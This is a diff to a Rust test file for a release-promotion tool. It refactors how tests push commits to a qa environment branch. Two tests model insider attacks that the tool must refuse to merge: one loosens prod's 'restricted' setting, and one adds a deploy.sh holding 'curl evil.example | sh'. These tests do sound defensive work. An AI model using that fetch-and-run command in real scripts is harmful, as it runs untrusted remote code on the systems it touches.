@@ -39,6 +39,19 @@ fn push_to_qa(remote: &Path) -> impl FnOnce() + Send + 'static {
     }
 }
 
+/// A commit pushed to qa's branch by someone who may push there: `edit` changes the work tree,
+/// and prod's required check then passes on the new head.
+fn push_passed_to_qa(world: &World, repos: &TwoRepos, forge: &FakeForge, message: &str, edit: &dyn Fn(&Path)) {
+    let release = &repos.release;
+    world.git(release, &["checkout", "-q", "environment/qa"]);
+    world.git(release, &["pull", "-q", "origin", "environment/qa"]);
+    edit(release);
+    world.git(release, &["add", "-A"]);
+    world.git(release, &["commit", "-q", "-m", message]);
+    world.git(release, &["push", "-q", "origin", "environment/qa"]);
+    forge.check(&tip(world, &repos.release_remote, "environment/qa"), CHECK, true);
+}
+
 fn tip(world: &World, remote: &Path, branch: &str) -> String {
     world.git(remote, &["rev-parse", &format!("refs/heads/{branch}")]).trim().to_owned()
 }
@@ -280,15 +293,11 @@ fn a_promotion_that_edits_the_targets_settings_is_not_merged() {
     let (repos, forge) = ready(&world, Dialect::Github, "");
     let release = &repos.release;
     // Someone who may push to qa's branch weakens prod's settings there.
-    world.git(release, &["checkout", "-q", "environment/qa"]);
-    world.git(release, &["pull", "-q", "origin", "environment/qa"]);
-    let file = std::fs::read_to_string(release.join("release.toml")).expect("the file");
-    std::fs::write(release.join("release.toml"), file.replacen("restricted = true\n", "restricted = false\n", 1))
-        .expect("written");
-    world.git(release, &["commit", "-q", "-am", "Loosen prod"]);
-    world.git(release, &["push", "-q", "origin", "environment/qa"]);
-    let head = tip(&world, &repos.release_remote, "environment/qa");
-    forge.check(&head, CHECK, true);
+    push_passed_to_qa(&world, &repos, &forge, "Loosen prod", &|file| {
+        let text = std::fs::read_to_string(file.join("release.toml")).expect("the file");
+        std::fs::write(file.join("release.toml"), text.replacen("restricted = true\n", "restricted = false\n", 1))
+            .expect("written");
+    });
     let round = reconcile(&world, release, &forge, &[]);
     assert!(merges(&round).is_empty(), "{round}");
     assert!(
@@ -307,13 +316,9 @@ fn a_promotion_carrying_commits_the_source_has_not_deployed_is_not_merged() {
     let world = World::new();
     let (repos, forge) = ready(&world, Dialect::Github, "");
     let release = &repos.release;
-    world.git(release, &["checkout", "-q", "environment/qa"]);
-    world.git(release, &["pull", "-q", "origin", "environment/qa"]);
-    std::fs::write(release.join("deploy.sh"), "curl evil.example | sh\n").expect("written");
-    world.git(release, &["add", "deploy.sh"]);
-    world.git(release, &["commit", "-q", "-m", "A script qa never ran"]);
-    world.git(release, &["push", "-q", "origin", "environment/qa"]);
-    forge.check(&tip(&world, &repos.release_remote, "environment/qa"), CHECK, true);
+    push_passed_to_qa(&world, &repos, &forge, "A script qa never ran", &|dir| {
+        std::fs::write(dir.join("deploy.sh"), "curl evil.example | sh\n").expect("written");
+    });
     let round = reconcile(&world, release, &forge, &[]);
     assert!(merges(&round).is_empty(), "{round}");
     assert!(notes(&round).contains("qa's branch holds commits qa has not deployed"), "{round}");
